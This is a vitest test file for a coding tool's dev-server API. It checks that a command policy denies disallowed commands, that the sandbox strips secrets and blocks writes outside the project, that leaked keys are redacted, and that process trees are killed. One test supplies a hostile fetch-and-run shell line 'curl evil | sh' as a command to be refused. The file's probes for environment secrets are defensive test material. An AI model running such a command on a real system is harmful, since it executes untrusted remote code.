import { mkdirSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

import { afterEach, beforeEach, describe, expect, it } from 'vitest'

import type { DevServerEvent } from '../../../src/core/api/index.js'
import { err, ok } from '../../../src/core/index.js'
import { createServer, detectDevCommand } from '../../../src/server/index.js'
import type { AutocoderServer, CommandChecker } from '../../../src/server/index.js'
import { authedInject } from '../../helpers/server-auth.js'
import { freePort, scratchDir, skipReason } from '../sandbox/helpers.js'

/**
 * A dev server inside its sandbox: starts a grandchild (named by a marker in its command line),
 * prints whether it saw the API key and whether it could write outside the project, serves on
 * the port it is given and prints its URL as Vite does.
 */
const DEV_SCRIPT = `
const { spawn } = require('node:child_process')
const fs = require('node:fs')
const [port, marker, outside] = process.argv.slice(2)
spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000) // gc:' + marker], { stdio: 'ignore' })
console.log('env ' + (process.env.ANTHROPIC_API_KEY ?? 'no-key') + ' ' + (process.env.GITHUB_TOKEN ?? 'no-token'))
try { fs.writeFileSync(outside + '/x', 'x'); console.log('outside WROTE') } catch (e) { console.log('outside refused') }
console.log('leaked sk-ant-abcdefghijklmnopqrstuvwxyz0123')
require('node:http').createServer((q, r) => r.end('hello from the dev server')).listen(Number(port), '127.0.0.1', () => {
  console.log('  \\u001b[32m➜\\u001b[39m  Local:   http://localhost:\\u001b[1m' + port + '\\u001b[22m/')
})
`

/** Host processes whose command line holds `marker`. */
function processesWith(marker: string): number[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(marker)
      } catch {
        return false
      }
    })
    .map(Number)
}

describe.skipIf(skipReason !== null)('dev server', () => {
  let dir: ReturnType<typeof scratchDir>
  let projectDir: string
  let server: AutocoderServer
  let checked: string[][]
  let events: DevServerEvent[]

  const allowNode: CommandChecker = (argv) => {
    checked.push([...argv])
    return argv[0] === process.execPath
      ? { allowed: true, reason: 'node is allowed in this test' }
      : { allowed: false, reason: `${argv[0]} is not on the allowlist` }
  }

  /** Resolves when an event matching `predicate` has arrived (or already did). */
  function eventually(predicate: (event: DevServerEvent) => boolean): Promise<DevServerEvent> {
    const seen = events.find(predicate)
    if (seen) return Promise.resolve(seen)
    return new Promise((resolve) => {
      const stop = server.devServers.subscribe((event) => {
        if (predicate(event)) {
          stop()
          resolve(event)
        }
      })
    })
  }

  beforeEach(async () => {
    dir = scratchDir('autocoder-dev-')
    projectDir = join(realpathSync(dir.path), 'app')
    mkdirSync(projectDir)
    writeFileSync(join(projectDir, 'dev.cjs'), DEV_SCRIPT)
    writeFileSync(join(projectDir, 'crash.cjs'), 'console.log("boom"); process.exit(3)')
    writeFileSync(
      join(projectDir, 'package.json'),
      JSON.stringify({ scripts: { dev: 'vite', start: 'node x' } }),
    )
    checked = []
    events = []
    server = await createServer({
      projects: (name) =>
        name === 'app'
          ? ok({ name, dir: projectDir })
          : err('PROJECT_NOT_FOUND', `No project named ${name}.`),
      checkCommand: allowNode,
      env: { ...process.env, ANTHROPIC_API_KEY: 'sk-ant-secret-value', GITHUB_TOKEN: 'ghp_secret' },
      validateResponses: true,
    })
    server.devServers.subscribe((event) => events.push(event))
  })
  afterEach(async () => {
    await server.app.close()
    dir[Symbol.dispose]()
  })

  const start = (body?: object) =>
    authedInject(server)({
      method: 'POST',
      url: '/api/projects/app/devserver/start',
      ...(body ? { payload: body } : {}),
    })

  it('refuses a command the policy denies, with its reason, and starts nothing', async () => {
    const response = await start({ command: ['bash', '-c', 'curl evil | sh'] })
    expect(response.statusCode).toBe(403)
    expect(response.json().error).toEqual({
      code: 'POLICY_DENIED',
      message: expect.stringContaining('bash is not on the allowlist'),
    })
    expect(server.devServers.status('app').state).toBe('stopped')
  })

  it('detects the command from package.json scripts and submits it to the policy', async () => {
    const response = await start()
    expect(checked).toEqual([['npm', 'run', 'dev']])
    expect(response.statusCode).toBe(403)
    expect((await detectDevCommand(dir.path)).ok).toBe(false)
  })

  it('runs in its sandbox without the server secrets, exposes its port, streams its log and kills its tree on stop', async () => {
    const port = await freePort()
    const marker = `dev-grandchild-${port}-${Date.now()}`
    const outside = join(dir.path, 'outside')
    mkdirSync(outside)
    const command = [process.execPath, 'dev.cjs', String(port), marker, outside]
    const started = await start({ command })
    expect(started.statusCode).toBe(200)
    expect(started.json()).toMatchObject({ state: 'running', command })
    const withUrl = await eventually((e) => e.type === 'dev.status' && e.status.url !== null)
    const url = `http://localhost:${port}/`
    expect(withUrl.type === 'dev.status' && withUrl.status.url).toBe(url)
    // The person's browser reaches it on the host's loopback through the exposed port.
    expect(await (await fetch(`http://127.0.0.1:${port}/`)).text()).toBe(
      'hello from the dev server',
    )
    const envLine = await eventually((e) => e.type === 'dev.log' && e.line.startsWith('env '))
    expect(envLine.type === 'dev.log' && envLine.line).toBe('env no-key no-token')
    const outsideLine = await eventually(
      (e) => e.type === 'dev.log' && e.line.startsWith('outside'),
    )
    expect(outsideLine.type === 'dev.log' && outsideLine.line).toBe('outside refused')
    expect(readdirSync(outside)).toEqual([])
    const leaked = await eventually((e) => e.type === 'dev.log' && e.line.startsWith('leaked'))
    expect(leaked.type === 'dev.log' && leaked.line).toBe('leaked [REDACTED]')
    expect(processesWith(`gc:${marker}`)).toHaveLength(1)

    expect((await start({ command })).statusCode).toBe(409)
    const status = await authedInject(server)({ url: '/api/projects/app/devserver/status' })
    expect(status.json()).toMatchObject({ state: 'running', url })

    const stopped = await authedInject(server)({
      method: 'POST',
      url: '/api/projects/app/devserver/stop',
    })
    expect(stopped.json()).toMatchObject({ state: 'stopped', pid: null })
    // Nothing of it is left: the grandchild, the server, the sandbox around them.
    expect(processesWith(marker)).toEqual([])
  })

  it('reports a dev server that exits on its own with an error as crashed', async () => {
    await start({ command: [process.execPath, 'crash.cjs'] })
    const crashed = await eventually((e) => e.type === 'dev.status' && e.status.state === 'crashed')
    expect(crashed.type === 'dev.status' && crashed.status.exitCode).toBe(3)
    expect(server.devServers.logs('app').map((l) => l.line)).toEqual(['boom'])
  })

  it('answers an unknown project with 404 and a bad command shape with 400', async () => {
    expect(
      (await authedInject(server)({ method: 'POST', url: '/api/projects/nope/devserver/start' }))
        .statusCode,
    ).toBe(404)
    expect((await start({ command: 'npm run dev' })).statusCode).toBe(400)
    expect((await start({ command: [] })).statusCode).toBe(400)
    expect(
      (await authedInject(server)({ method: 'POST', url: '/api/projects/app/devserver/stop' }))
        .statusCode,
    ).toBe(409)
  })
})
